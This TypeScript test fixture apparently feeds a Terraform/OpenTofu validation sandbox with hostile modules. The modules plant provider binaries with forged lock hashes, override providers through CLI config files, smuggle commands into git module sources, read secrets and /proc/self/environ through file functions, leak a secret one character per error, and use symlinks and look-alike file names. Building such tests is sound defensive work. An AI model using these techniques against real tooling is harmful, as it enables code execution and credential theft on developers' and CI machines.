import { execFileSync, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdir, symlink } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { type Bait, writeFiles } from './bait.ts';

/** A module that was written to harm. */
export interface Hostile {
  readonly files: Readonly<Record<string, string | Buffer>>;
  /** What files cannot say: links, FIFOs; gives back what has to stay open. */
  readonly make?: (module: string) => Promise<Server | undefined>;
  /** What terraform comes to; `unknown` where something was left out, so that nothing is praised unseen. */
  readonly verdict: 'valid' | 'invalid' | 'unknown';
}

const EVIL = `terraform {
  required_providers {
    evil = { source = "example.com/evil/evil" }
  }
}
resource "evil_thing" "x" {}
`;
const BINARY = 'example.com/evil/evil/1.0.0/linux_amd64/terraform-provider-evil_v1.0.0';
const AWS_BINARY =
  'registry.terraform.io/hashicorp/aws/5.100.0/linux_amd64/terraform-provider-aws_v5.100.0';

/** A lock file that holds the right hash of the planted program, so that terraform finds nothing wrong with it. */
function lock(address: string, version: string, program: string, name: string): string {
  const sha256 = (text: string) => createHash('sha256').update(text);
  // `h1:` of golang.org/x/mod/sumdb/dirhash: the hash of a list of hashes and names.
  const hash = sha256(`${sha256(program).digest('hex')}  ${name}\n`).digest('base64');
  return `provider "${address}" {\n  version = "${version}"\n  hashes  = ["h1:${hash}"]\n}\n`;
}
const evilLock = (program: string): string =>
  lock('example.com/evil/evil', '1.0.0', program, 'terraform-provider-evil_v1.0.0');
const awsLock = (program: string): string =>
  lock(
    'registry.terraform.io/hashicorp/aws',
    '5.100.0',
    program,
    'terraform-provider-aws_v5.100.0',
  );

const VPC = 'resource "aws_vpc" "main" {\n  cidr_block = "10.0.0.0/16"\n}\n';

const call = (source: string): string => `module "m" {\n  source = "${source}"\n}\n`;
const locals = (...values: readonly string[]): string =>
  `locals {\n${values.map((value, i) => `  v${i} = ${value}\n`).join('')}}\n`;

/** Each of them, by what it tries. */
export const HOSTILE: Readonly<Record<string, (bait: Bait) => Hostile>> = {
  'a provider planted in .terraform, with its lock file': ({ program }) => ({
    files: {
      'main.tf': EVIL,
      '.terraform.lock.hcl': evilLock(program),
      [`.terraform/providers/${BINARY}`]: program,
    },
    verdict: 'unknown',
  }),
  'a provider planted under the name of a real one': ({ program }) => ({
    files: {
      'main.tf': VPC,
      '.terraform.lock.hcl': awsLock(program),
      [`.terraform/providers/${AWS_BINARY}`]: program,
      [`terraform.d/plugins/${AWS_BINARY}`]: program,
    },
    verdict: 'valid',
  }),
  'a provider planted in terraform.d/plugins': ({ program }) => ({
    files: { 'main.tf': EVIL, [`terraform.d/plugins/${BINARY}`]: program },
    verdict: 'unknown',
  }),
  'a provider planted in a called module': ({ program }) => ({
    files: {
      'main.tf': call('./m'),
      'm/main.tf': EVIL,
      [`m/.terraform/providers/${BINARY}`]: program,
      [`m/terraform.d/plugins/${BINARY}`]: program,
      'm/.terraform.lock.hcl': evilLock(program),
    },
    verdict: 'unknown',
  }),
  'a configuration of the command line beside the module': ({ program, module }) => {
    const rc = `provider_installation {\n  dev_overrides {\n    "example.com/evil/evil" = "${module}/bin"\n    "hashicorp/aws" = "${module}/bin"\n  }\n  direct {}\n}\n`;
    return {
      files: {
        'main.tf': VPC,
        '.terraformrc': rc,
        'terraform.rc': rc,
        '.tofurc': rc,
        'cli.tfrc': rc,
        'iac-dpo-home/.terraformrc': rc,
        'bin/terraform-provider-evil': program,
        'bin/terraform-provider-aws': program,
        '.env': `TF_CLI_CONFIG_FILE=${module}/cli.tfrc\nTF_CLI_ARGS=-bogus\n`,
        terraform: program,
        tofu: program,
      },
      verdict: 'valid',
    };
  },
  'blocks that run programs': ({ marker }) => ({
    files: {
      'main.tf': `resource "terraform_data" "x" {
  provisioner "local-exec" {
    command = "touch ${marker}"
  }
  provisioner "local-exec" {
    when        = destroy
    interpreter = ["/bin/sh", "-c"]
    command     = "touch ${marker}"
  }
}
removed {
  from = terraform_data.gone
  lifecycle {
    destroy = true
  }
  provisioner "local-exec" {
    when    = destroy
    command = "touch ${marker}"
  }
}
data "external" "x" {
  program = ["/usr/bin/touch", "${marker}"]
}
`,
    },
    verdict: 'valid',
  }),
  'tests that apply': ({ marker }) => {
    const test = 'run "x" {\n  command = apply\n}\n';
    return {
      files: {
        'main.tf': `resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "touch ${marker}"\n  }\n}\n`,
        'main.tftest.hcl': test,
        'tests/main.tftest.hcl': test,
        'tests/more.tftest.json': '{"run": {"x": {"command": "apply"}}}',
        'mocks/aws.tfmock.hcl': 'mock_resource "aws_vpc" {\n',
      },
      verdict: 'valid',
    };
  },
  'module sources that run programs or ask the network': ({ marker, origin }) => {
    const sources = [
      `git::ssh://-oProxyCommand=touch%20${marker}/x`,
      `git::${origin}/git.git?ref=--upload-pack=touch`,
      `hg::${origin}/hg`,
      `${origin}/module.zip`,
      `s3::${origin}/bucket/key`,
      'registry.terraform.io/a/b/c',
    ];
    return {
      files: {
        'main.tf': sources
          .map((source, i) => call(source).replace('"m"', `"m${i}"`))
          .join('')
          .replace('c"\n', 'c"\n  version = "1.0.0"\n'),
      },
      verdict: 'unknown',
    };
  },
  'module sources that lead out': ({ outside }) => ({
    files: {
      'main.tf': [
        outside,
        `file://${outside}`,
        '../../outside',
        './../../../outside',
        './/../../outside',
        '..\\\\..\\\\outside',
        './.terraform/modules/m',
      ]
        .map((source, i) => call(source).replace('"m"', `"m${i}"`))
        .join(''),
    },
    verdict: 'unknown',
  }),
  'a planted modules.json': ({ outside }) => ({
    files: {
      'main.tf': call('a/b/c'),
      '.terraform/modules/modules.json': JSON.stringify({
        Modules: [
          { Key: '', Source: '', Dir: '.' },
          { Key: 'm', Source: 'registry.terraform.io/a/b/c', Dir: outside },
        ],
      }),
    },
    verdict: 'unknown',
  }),
  'an override that changes where a call leads': ({ outside }) => ({
    files: {
      'main.tf': call('./m'),
      'm/main.tf': '',
      'override.tf': call(outside),
      'x_override.tf.json': JSON.stringify({ module: { m: { source: '../../outside' } } }),
    },
    verdict: 'unknown',
  }),
  'a .tofu file in the place of a .tf file': ({ secret, outside }) => ({
    files: {
      'main.tf': 'locals {}\n',
      'main.tofu': locals(`tonumber(file("${secret}"))`) + call(outside),
      'more.tofu.json': JSON.stringify({ module: { m: { source: outside } } }),
    },
    verdict: 'unknown',
  }),
  'file functions in JSON': ({ secret }) => ({
    files: {
      'main.tf.json': JSON.stringify({ locals: { v: `\${tonumber(file("${secret}"))}` } }),
      'spelt.tf.json': `{"locals": {"w": "$\\u007btobool(\\u0066ile(\\"${secret}\\"))}"}}`,
    },
    verdict: 'invalid',
  }),
  'calls and provisioners in JSON': ({ outside, marker }) => ({
    files: {
      'main.tf.json': JSON.stringify({
        module: { m: { source: outside }, n: { source: 'a/b/c', version: '1.0.0' } },
        resource: {
          terraform_data: { x: { provisioner: { 'local-exec': { command: `touch ${marker}` } } } },
        },
      }),
    },
    verdict: 'unknown',
  }),
  'file functions': ({ secret, outside }) => ({
    files: {
      'main.tf': locals(
        `tonumber(file("${secret}"))`,
        `tobool(trimspace(file("${secret}")))`,
        `jsondecode(file("${secret}"))`,
        `yamldecode("a: [\${file("${secret}")}")`,
        `regex("zzz", file("${secret}"))`,
        `tonumber(base64decode(filebase64("${secret}")))`,
        `tonumber(join(",", fileset("${outside}", "**")))`,
        `tonumber(fileexists("${secret}") ? file("${secret}") : "1")`,
        `{ a = 1 }[file("${secret}")]`,
        `templatefile("${secret}", {})[0]`,
        `tonumber(core::file("${secret}"))`,
        `tonumber(file /* here */ ("${secret}"))`,
        `tonumber((file\n("${secret}")))`,
        `tonumber(file("\${path.module}/../../outside/secret.txt"))`,
        `tonumber(file("\${path.cwd}/../../outside/secret.txt"))`,
        'tonumber(file("~/secret.txt"))',
        'tonumber(file("/proc/self/environ"))',
        'tonumber(join(",", fileset("/proc", "*/environ")))',
      ),
    },
    verdict: 'invalid',
  }),
  'a file as the value of an argument that is checked': ({ secret }) => ({
    files: {
      'main.tf': `resource "aws_vpc" "main" {
  cidr_block       = file("${secret}")
  instance_tenancy = file("${secret}")
}
resource "aws_iam_policy" "p" {
  policy = file("${secret}")
}
variable "v" {
  type    = number
  default = 1
  validation {
    condition     = var.v == 1
    error_message = file("${secret}")
  }
}
`,
    },
    verdict: 'invalid',
  }),
  'one bit of a file for each error': ({ secret }) => ({
    files: {
      'main.tf': locals(
        ...[...'canary-0123'].map(
          (letter, i) =>
            `tonumber(substr(file("${secret}"), ${i}, 1) == "${letter}" ? "leaked" : "1")`,
        ),
      ),
    },
    verdict: 'invalid',
  }),
  'templates that read': ({ secret }) => ({
    files: {
      'main.tf': locals(
        'tonumber(templatefile("${path.module}/read.tftpl", {}))',
        'tonumber(templatestring(local.text, {}))',
      ).replace('{\n', `{\n  text = join("", ["$", "{fi", "le(\\"${secret}\\")}"])\n`),
      'read.tftpl': `\${file("${secret}")}`,
    },
    verdict: 'invalid',
  }),
  'a template that renders itself': () => ({
    files: {
      'main.tf': locals('templatefile("${path.module}/self.tftpl", {})'),
      'self.tftpl': '${templatefile("self.tftpl", {})}${templatefile("./self.tftpl", {})}',
    },
    verdict: 'invalid',
  }),
  'links in the place of files and folders': ({ secret, outside }) => ({
    files: {
      'ok.tf': locals('tonumber(file("data.txt"))') + call('./m'),
    },
    make: async (module) => {
      await symlink(join(outside, 'main.tf'), join(module, 'main.tf'));
      await symlink(secret, join(module, 'terraform.tfvars'));
      await symlink(secret, join(module, 'data.txt'));
      await symlink(outside, join(module, 'm'));
      await symlink('..', join(module, 'round'));
      return undefined;
    },
    verdict: 'invalid',
  }),
  'a FIFO, a socket and a device': () => ({
    files: { 'ok.tf': 'locals {}\n' },
    make: async (module) => {
      execFileSync('mkfifo', [join(module, 'main.tf'), join(module, 'data.txt')]);
      // Only root may, and not everywhere.
      spawnSync('mknod', [join(module, 'zero.tf'), 'c', '1', '5']);
      const server = createServer();
      await new Promise<void>((done) => server.listen({ path: join(module, 's.tf') }, done));
      return server;
    },
    verdict: 'unknown',
  }),
  'names that lead out, hide or look alike': ({ program }) => ({
    files: {
      'ok.tf': EVIL,
      '--help.tf': 'locals {}\n',
      '-chdir=..': '',
      '::error::x.tf': 'locals {}\n',
      '..tf': 'locals {}\n',
      '...tf': 'locals {}\n',
      'a\nb.tf': 'locals {}\n',
      'c\u001b[2Jd.tf': 'locals {}\n',
      'e\\..\\f.tf': 'locals {}\n',
      'Main.tf': 'locals {}\n',
      'main.tf': 'locals {}\n',
      'ma\u0131n.tf': 'locals {}\n',
      'm\u202efdt.tf': 'locals {}\n',
      [`${'x'.repeat(252)}.tf`]: 'locals {}\n',
      [`.Terraform/providers/${BINARY}`]: program,
      [`.terra\u200cform/providers/${BINARY}`]: program,
      [`.terraform\u2024/providers/${BINARY}`]: program,
      [`TERRAFORM.D/plugins/${BINARY}`]: program,
    },
    verdict: 'unknown',
  }),
  'a submodule that points elsewhere': ({ outside }) => ({
    files: {
      'main.tf': call('./sub'),
      '.gitmodules': `[submodule "sub"]\n  path = sub\n  url = ${outside}\n`,
      'sub/.git': `gitdir: ${outside}\n`,
      'sub/main.tf': call('../../../outside'),
    },
    verdict: 'unknown',
  }),
  'state, variables and backends': ({ secret, marker, origin }) => ({
    files: {
      'main.tf': `terraform {
  backend "http" {
    address = "${origin}/state"
  }
}
data "terraform_remote_state" "x" {
  backend = "local"
  config  = { path = "${secret}" }
}
provider "aws" {
  region                   = "eu-west-1"
  shared_credentials_files = ["${secret}"]
  skip_metadata_api_check  = false
  endpoints {
    sts = "${origin}/sts"
  }
}
${VPC}`,
      'terraform.tfvars': 'x = "y"\n',
      'a.auto.tfvars': `x = file("${secret}")\n`,
      'terraform.tfstate': `{"version": 4, "x": "${marker}"}`,
      '.terraform/terraform.tfstate': `{"version": 3, "backend": {"type": "http", "config": {"address": "${origin}/x"}}}`,
      '.terraform/environment': 'evil',
    },
    verdict: 'valid',
  }),
  'folders named as ours': ({ outside }) => ({
    files: {
      'main.tf': `${call('./iac-dpo-stubs/0')}${call('a/b/c').replace('"m"', '"n"')}`,
      'iac-dpo-stubs/0/main.tf': locals('nonsense.of.a.stub'),
      'iac-dpo-up-2/main.tf': call(outside),
      'iac-dpo-work/main.tf': '',
      'data/modules/modules.json': '{"Modules": []}',
    },
    verdict: 'unknown',
  }),
};

/** Writes one of them where the bait is. */
export async function makeHostile(
  { files, make }: Hostile,
  { module }: Bait,
): Promise<Server | undefined> {
  await mkdir(module, { recursive: true });
  await writeFiles(module, files);
  return make?.(module);
}
